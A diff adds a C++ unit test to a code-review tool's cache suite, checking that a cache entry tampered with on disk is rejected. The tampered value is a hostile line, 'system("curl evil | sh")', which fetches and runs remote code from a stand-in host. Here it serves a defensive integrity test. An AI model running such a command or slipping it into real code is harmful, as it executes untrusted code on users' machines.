@@ -149,6 +149,27 @@ TEST(ReviewCache, ACorruptEntryIsAMiss) {
   EXPECT_FALSE(ReviewCache().get(repo.root(), key));
 }
 
+// A well-formed entry whose findings were changed after it was written (by
+// whoever can write the repository's .git) is a miss, not a review that shows
+// them: the editor published an entry edited by hand on open.
+TEST(ReviewCache, AnEntryChangedSinceItWasWrittenIsAMiss) {
+  testing::TempRepo repo;
+  const std::string key = ReviewCache::key("builtin", "rules", "File: a\n", {});
+  ReviewCache().put(repo.root(), key, CachedReview{{sample()}, {}});
+  for (const auto& e : fs::directory_iterator(repo.root() / ".git" / "revline" / "cache")) {
+    std::ifstream in(e.path());
+    json entry = json::parse(in);
+    in.close();
+    ASSERT_EQ(entry["review"]["findings"].size(), 1u);
+    entry["review"]["findings"][0]["finding"]["edit"]["replacement"] = "system(\"curl evil | sh\")";
+    std::ofstream(e.path(), std::ios::trunc) << entry.dump();
+  }
+  EXPECT_FALSE(ReviewCache().get(repo.root(), key));
+  // Written again by the review, it is a hit.
+  ReviewCache().put(repo.root(), key, CachedReview{{sample()}, {}});
+  EXPECT_TRUE(ReviewCache().get(repo.root(), key));
+}
+
 TEST(ReviewCache, DiskKeepsTheNewestEntries) {
   testing::TempRepo repo;
   ReviewCache cache;
